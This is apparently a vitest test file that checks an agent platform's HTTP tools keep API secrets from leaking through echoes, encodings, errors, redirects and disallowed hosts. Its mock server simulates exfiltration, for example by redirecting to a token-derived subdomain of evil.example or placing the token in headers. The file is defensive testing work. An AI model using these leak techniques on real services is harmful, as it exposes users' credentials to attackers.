import { startLocalServer, type LocalServer } from '@everruns/egress/testing';
import type { JsonObject } from '@everruns/schemas';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createNamedSecrets, type NamedSecrets } from '../../test/named-secrets.ts';
import { createToolBench, type ToolBench } from '../../test/tool-context.ts';
import { openTestEgress } from '../../test/tool-egress.ts';
import { createHttpTools } from './tools.ts';

const VALUE = 'canary-Token/9+8';
const TEXT = /canary|token\/9/i;

const egress = openTestEgress();
let server: LocalServer;
let other: LocalServer;
let secrets: NamedSecrets;
let bench: ToolBench;

beforeAll(async () => {
  other = await startLocalServer((_request, response) => response.end('other'));
  server = await startLocalServer((request, response) => {
    const url = new URL(request.url ?? '', 'http://x');
    const seen = String(request.headers.authorization);
    const [, token = ''] = /^Bearer (.*)$/.exec(seen) ?? [];
    response.setHeader('content-type', 'application/json');
    switch (url.pathname) {
      case '/echo':
        return response.end(JSON.stringify({ ...request.headers, method: request.method }));
      case '/base64':
        return response.end(Buffer.from(`x ${seen} y`).toString('base64'));
      case '/percent':
        return response.end(encodeURIComponent(token));
      case '/to':
        return response.writeHead(307, { location: url.searchParams.get('url') ?? '' }).end();
      case '/leak-by-location':
        return response.writeHead(302, { location: `/landed?t=${encodeURIComponent(token)}` }).end();
      case '/leak-by-host':
        return response.writeHead(302, { location: `http://${token.replaceAll(/[^a-z]/gi, '')}.evil.example/` }).end();
      case '/leak-by-reset':
        return response.writeHead(200, { 'x-leak': token }).destroy();
      case '/error':
        return response.writeHead(500).end(`failed for ${seen}`);
      default:
        return response.end('{}');
    }
  });
});
beforeEach(() => {
  const { port } = server;
  secrets = createNamedSecrets({
    api: { value: VALUE, hosts: [`127.0.0.1:${port}`] },
    elsewhere: { value: 'canary-elsewhere', hosts: ['api.example.com:443'] },
  });
  bench = createToolBench(createHttpTools(), { egress, secrets });
  server.requests.length = 0;
  other.requests.length = 0;
});
afterAll(async () => {
  for (const one of [server, other, egress]) await one[Symbol.asyncDispose]();
});

const config = (more: object = {}): JsonObject => ({
  hosts: [`127.0.0.1:${server.port}`, `127.0.0.1:${other.port}`],
  headers: ['Authorization: Bearer {{api}}', 'X-Plain: always'],
  ...more,
});
const get = (path: string, args: object = {}, settings = config()) =>
  bench.run('http_get', { url: `${server.origin}${path}`, ...args }, { config: settings }) as Promise<JsonObject>;
const change = (path: string, args: object = {}, settings = config()) =>
  bench.run('http_request', { url: `${server.origin}${path}`, method: 'POST', ...args }, { config: settings });
const failureOf = (work: Promise<unknown>) => work.then(String, (error: unknown) => String(error));

describe('http requests', () => {
  it('put in secrets that neither the arguments nor the result hold', async () => {
    const result = await get('/echo', { headers: { 'x-own': '1', authorization: 'Bearer mine' } });
    expect(server.requests[0]?.headers).toMatchObject({
      authorization: `Bearer ${VALUE}`,
      'x-plain': 'always',
      'x-own': '1',
    });
    expect(secrets.asked).toEqual([`api 127.0.0.1:${server.port}`]);
    expect(result).toMatchObject({ status: 200, content: expect.stringContaining('Bearer [secret]') });
    expect(JSON.stringify(result)).not.toMatch(TEXT);
  });

  it('give the key of the call to the server, and the body as it was written', async () => {
    await change('/echo', { body: '{"a":1}', headers: { 'idempotency-key': 'forged' } });
    expect(server.requests[0]).toMatchObject({ method: 'POST', body: '{"a":1}' });
    expect(server.requests[0]?.headers).toMatchObject({ 'idempotency-key': 'key', 'content-type': 'application/json' });
    await change('/echo', { method: 'DELETE' }, config({ idempotency_header: 'X-Request-Id' }));
    expect(server.requests[1]?.headers).toMatchObject({ 'x-request-id': 'key' });
    expect(server.requests[1]?.headers).not.toHaveProperty('content-type');
  });

  it.each(['/echo', '/base64', '/percent', '/leak-by-location', '/error'])(
    'mask a secret that the server repeats: %s',
    async (path) => {
      const text = JSON.stringify(await get(path));
      expect(text).toContain('[secret]');
      expect(decodeURIComponent(text.replaceAll(/%(?![0-9a-f]{2})/gi, '%25'))).not.toMatch(TEXT);
      const [, content = ''] = />\\n([A-Za-z0-9+/=]+)\\n</.exec(text) ?? [];
      expect(Buffer.from(content, 'base64').toString()).not.toMatch(TEXT);
    },
  );

  it.each(['/leak-by-host', '/leak-by-reset'])('mask it in an error too: %s', async (path) => {
    expect(await failureOf(get(path))).not.toMatch(/canarytoken|canary-token/i);
  });

  it('drop secrets where a redirect leaves the host, even to another allowed one', async () => {
    const result = await get(`/to?url=${encodeURIComponent(other.origin)}`);
    expect(result).toMatchObject({ status: 200, content: expect.stringContaining('other') });
    expect(other.requests).toHaveLength(1);
    expect(other.requests[0]?.headers).not.toHaveProperty('authorization');
    expect(JSON.stringify(other.requests)).not.toMatch(TEXT);
    const custom = config({ headers: ['X-Api-Token: {{api}}'] });
    await get(`/to?url=${encodeURIComponent(other.origin)}`, {}, custom);
    expect(JSON.stringify(other.requests)).not.toMatch(TEXT);
  });

  it('refuse a host that is not allowed before any secret is asked for, and follow no redirect to one', async () => {
    expect(await failureOf(get('/echo', { url: 'https://evil.example/' }))).toContain('evil.example is not allowed');
    const only = config({ hosts: [`127.0.0.1:${server.port}`] });
    expect(await failureOf(get(`/to?url=${encodeURIComponent(other.origin)}`, {}, only))).toContain('not allowed');
    expect([secrets.asked.length, other.requests.length]).toEqual([1, 0]);
  });

  it('send no secret to a host that it does not list, nor over an open connection', async () => {
    const wrong = config({ headers: ['Authorization: {{elsewhere}}'] });
    await expect(get('/echo', {}, wrong)).rejects.toMatchObject({ code: 'secret_host_not_allowed' });
    const open = config({ hosts: ['example.com'] });
    await expect(get('/', { url: 'http://example.com/' }, open)).rejects.toThrow('over https only');
    expect(server.requests).toHaveLength(0);
  });

  it('put nothing of a secret into what the model writes', async () => {
    await change('/echo', { body: '{{api}}', headers: { 'x-own': '{{api}}' }, url: `${server.origin}/echo?q={{api}}` });
    expect(JSON.stringify({ ...server.requests[0], headers: server.requests[0]?.headers['x-own'] })).not.toMatch(TEXT);
  });

  it.each(['host', 'Content-Length', 'transfer-encoding', 'proxy-authorization'])(
    'refuse the header %s',
    async (name) => {
      expect(await failureOf(get('/echo', { headers: { [name]: '1' } }))).toContain('cannot be set');
    },
  );
});
